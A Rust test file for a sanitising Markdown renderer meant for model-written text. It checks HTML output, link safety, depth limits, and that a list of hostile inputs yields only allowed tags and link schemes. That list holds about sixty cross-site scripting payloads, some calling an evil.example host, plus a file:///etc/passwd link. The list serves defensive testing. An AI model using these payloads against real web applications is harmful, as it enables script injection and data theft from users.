//! What Markdown becomes, and what a hostile model cannot make of it.

use super::*;

fn html(text: &str) -> String {
    blocks(text, 0).concat()
}

#[test]
fn markdown_becomes_html() {
    for (text, expected) in [
        ("Some *very* **good** `code`", "<p>Some <em>very</em> <strong>good</strong> <code>code</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", "<ol start=\"3\">\n<li>c</li>\n</ol>\n"),
        ("# Title", "<h3>Title</h3>\n"),
        ("```rust\nlet a = 1 < 2;\n```", "<pre><code>let a = 1 &lt; 2;\n</code></pre>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
    ] {
        assert_eq!(html(text), expected);
    }
    let table = html("|a|b|\n|-|-|\n|1|2|");
    assert!(table.contains("<th>a</th>") && table.contains("<td>2</td>"), "{table}");
}

#[test]
fn links_lead_to_the_web_and_tell_it_nothing() {
    let link = html("[docs](https://example.com/a?b=1&c=2)");
    assert!(link.contains("href=\"https://example.com/a?b=1&amp;c=2\""), "{link}");
    assert!(link.contains("rel=\"noopener noreferrer nofollow\"") && link.contains("target=\"_blank\""), "{link}");
    assert!(html("<mailto:a@example.com>").contains("href=\"mailto:a@example.com\""));
}

#[test]
fn a_picture_is_a_link_and_nothing_is_fetched() {
    let picture = html("![a cat](https://example.com/cat.png)");
    assert!(picture.contains("<a ") && picture.contains(">a cat</a>") && !picture.contains("<img"), "{picture}");
    let linked = html("[![badge](https://example.com/b.svg)](https://example.com)");
    assert_eq!(linked.matches("<a ").count(), 1, "{linked}");
    assert!(linked.contains("badge"), "{linked}");
}

#[test]
fn blocks_stand_for_themselves_and_can_be_had_from_the_middle() {
    let text = "# One\n\ntwo\n\n- three\n\n***\n\nsee [it]\n\n[it]: https://example.com";
    assert_eq!(count_blocks(text), 5);
    assert_eq!(blocks(text, 3), blocks(text, 0)[3..]);
    assert!(blocks(text, 4)[0].contains("href=\"https://example.com\""));
    assert_eq!(blocks(text, 9), [""; 0]);
    assert_eq!(count_blocks(""), 0);
}

#[test]
fn what_is_nested_without_end_is_shown_flat() {
    let deep = html(&format!("{}deep", ">".repeat(100_000)));
    assert!(deep.contains("deep"));
    assert!(deep.matches("<blockquote>").count() <= MAX_DEPTH, "{}", deep.len());
    let list: String = (0..200).map(|at| format!("{}- x\n", " ".repeat(2 * at))).collect();
    assert!(html(&list).matches("<ul>").count() <= MAX_DEPTH);
}

/// However a text grows, only its last block changes.
#[test]
fn a_growing_text_changes_in_its_last_block_only() {
    let text = include_str!("../agent/demo/long.md");
    let mut shown: Vec<String> = Vec::new();
    let mut known = 0;
    for end in (0..=text.len()).filter(|end| text.is_char_boundary(*end)) {
        let kept = count_blocks(&text[..known]).saturating_sub(1);
        shown.truncate(kept);
        shown.extend(blocks(&text[..end], kept));
        known = end;
    }
    assert_eq!(shown, blocks(text, 0));
}

/// Whatever a model writes, none of this comes of it.
#[test]
fn nothing_a_model_writes_can_run_or_fetch() {
    for hostile in HOSTILE {
        let shown = html(hostile);
        let allowed = [
            "a",
            "blockquote",
            "br",
            "code",
            "del",
            "em",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul",
        ];
        for tag in shown.split('<').skip(1) {
            let name = tag.trim_start_matches('/').split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap();
            assert!(allowed.contains(&name), "<{name}> from {hostile:?}: {shown}");
            let inside = tag.split('>').next().unwrap().to_ascii_lowercase();
            for attribute in inside.split_whitespace().skip(1).filter_map(|part| part.split_once('=')) {
                let known = ["href", "rel", "target", "start"].contains(&attribute.0)
                    || inside.contains("noopener noreferrer nofollow");
                assert!(known, "{attribute:?} from {hostile:?}: {shown}");
            }
            if let Some(href) = inside.split("href=\"").nth(1) {
                let leads = ["http://", "https://", "mailto:"].iter().any(|scheme| href.starts_with(scheme));
                assert!(leads, "{href} from {hostile:?}: {shown}");
            }
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script> text",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=q><button>Go</button></form>",
    "<object data=x></object><embed src=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/agents)",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example)",
    "![x](https://a.example/\"onerror=\"alert(1))",
    "```\"><script>alert(1)</script>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "# <script>alert(1)</script>",
    "# x {onclick=alert(1)}",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "- [ ] <input type=text autofocus onfocus=alert(1)>",
    "> <script>alert(1)</script>",
    "</p></div></article><script>alert(1)</script>",
    "<p onclick=alert(1) style=\"background:url(https://evil.example)\">x</p>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
];
